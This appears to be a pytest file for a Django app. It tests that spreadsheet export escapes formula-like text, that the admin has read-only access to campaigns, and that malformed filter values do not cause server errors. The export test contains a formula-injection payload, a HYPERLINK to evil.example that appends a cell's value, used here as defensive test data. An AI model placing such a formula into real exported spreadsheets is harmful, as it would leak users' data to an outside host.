"""Hostile input and the admin's reach: exported text never becomes a formula, the admin only
reads campaigns, a strange filter value is ignored, not a server error."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from common.export import xlsx_response
from tests import factories as f


def test_exported_text_that_looks_like_a_formula_stays_text():
    response = xlsx_response(
        filename="x.xlsx",
        sheet_title="x",
        headers=["title", "amount"],
        rows=[['=HYPERLINK("http://evil.example/?x="&A2,"详情")', 12], ["-1+2", 3], ["普通文字", 4]],
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert values[0][0] == '\'=HYPERLINK("http://evil.example/?x="&A2,"详情")'
    assert sheet["A2"].data_type == "s"  # a string, not a formula
    assert values[1][0] == "'-1+2"
    assert values[2] == ("普通文字", 4)


@pytest.mark.django_db
def test_the_admin_cannot_change_or_delete_a_campaign(client):
    from django.contrib import admin

    from funds.models import Campaign

    admin_user = f.UserFactory(username="root", is_superuser=True, is_staff=True)
    model_admin = admin.site._registry[Campaign]
    request = type("R", (), {"user": admin_user})()
    assert not model_admin.has_add_permission(request)
    assert not model_admin.has_change_permission(request)
    assert not model_admin.has_delete_permission(request)


@pytest.mark.parametrize("floor", ["--5", "²", "1e3", "%00", "3"])
def test_a_strange_floor_filter_is_ignored_not_a_server_error(world, as_user, floor):
    from tests.funds.conftest import make_campaign

    campaign = make_campaign(world)
    response = as_user(world.alice).get(reverse("funds:units", args=[campaign.pk]), {"floor": floor})
    assert response.status_code == 200
